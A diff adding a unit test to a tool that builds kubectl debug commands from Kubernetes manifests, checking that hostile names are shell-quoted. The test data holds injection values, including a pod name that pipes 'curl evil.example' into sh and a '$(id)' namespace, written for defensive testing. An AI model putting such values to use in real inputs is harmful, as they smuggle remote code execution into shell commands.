@@ -407,6 +407,17 @@ describe('debug commands', () => {
     expect(deployment.notes.join('\n')).toContain('Do not use kubectl debug node/');
   });
 
+  test('names from the manifest cannot inject shell commands', () => {
+    const hostile = onlyWorkload({
+      kind: 'Pod',
+      metadata: { name: 'x; curl evil.example | sh', namespace: '$(id)' },
+      spec: { containers: [{ name: "a' b" }] },
+    });
+    expect(answer(answerChecklist(hostile, { now: NOW }), 'debugging').facts.commands[0]?.command).toBe(
+      `kubectl debug -it -n '$(id)' 'pod/x; curl evil.example | sh' --image=busybox --target='a'\\'' b' --profile=restricted`,
+    );
+  });
+
   test('a Pod named by generateName is found by its prefix', () => {
     const generated = onlyWorkload({
       kind: 'Pod',
